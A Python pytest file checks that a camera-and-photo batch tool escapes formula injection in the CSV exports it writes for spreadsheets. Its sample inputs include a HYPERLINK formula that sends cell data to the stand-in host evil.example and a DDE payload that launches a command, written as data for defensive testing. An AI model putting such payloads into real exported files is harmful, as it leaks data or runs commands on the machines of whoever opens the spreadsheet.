"""No cell of an exported table is a formula, whatever a file, a display or a housing says."""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

import edge
from edge.batch.exports import write_csv
from edge.batch.output import Output
from edge.batch.rows import CAMERAS, PHOTOS, Row, Rows
from edge.report.spreadsheet import cell

FORMULAS = (
    '=HYPERLINK("http://evil.example?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＠SUM(1)",
)
TEXTS = {"place", "verdict", "vendor", "platform", "brand", "model", "mark_text"} & set(CAMERAS.names)
EXPORTS = {"batch/exports.py", "service/sighting_answers.py"}
"""Who writes tables for spreadsheets; that of sightings is tested in tests/service/test_sightings.py."""


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_a_text(text: str) -> None:
    assert cell(text) == f"'{text}"
    assert cell([text, "b"]) == f"'{text} b"


@pytest.mark.parametrize("value", ["HIKVISION", "a=b", "", 4, -4, -0.5, None, True])
def test_what_is_no_formula_stays_as_it_is(value: object) -> None:
    assert cell(value) == value


def test_the_table_of_a_batch_holds_no_formula(tmp_path: Path) -> None:
    with Output(tmp_path / "out", "ab" * 32, {}) as output:
        for text in FORMULAS:
            camera: Row = {**dict.fromkeys(CAMERAS.names), "camera": 0, **dict.fromkeys(TEXTS, text)}
            photo: Row = {**dict.fromkeys(PHOTOS.names), "place": text, "bytes": 1, "modified_ns": 1}
            output.add(Rows({**photo, "sha256": text}, (camera,)))
        output.finish()
    write_csv(tmp_path / "out", tmp_path / "cameras.csv")
    with (tmp_path / "cameras.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert {row["place"] for row in rows} == {f"'{text}" for text in FORMULAS}
    for row in rows:
        assert all(row[name].startswith("'") for name in TEXTS)


def test_every_table_for_spreadsheets_is_known() -> None:
    """A new export joins the list, and a test as above."""
    root = Path(edge.__file__).parent
    writing = {
        str(file.relative_to(root))
        for file in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|to_csv|text/csv", file.read_text("utf-8"))
    }
    assert writing - {"service/batches.py", "service/sightings.py"} == EXPORTS
    for name in EXPORTS:
        assert "cell(value) for value in" in (root / name).read_text("utf-8")
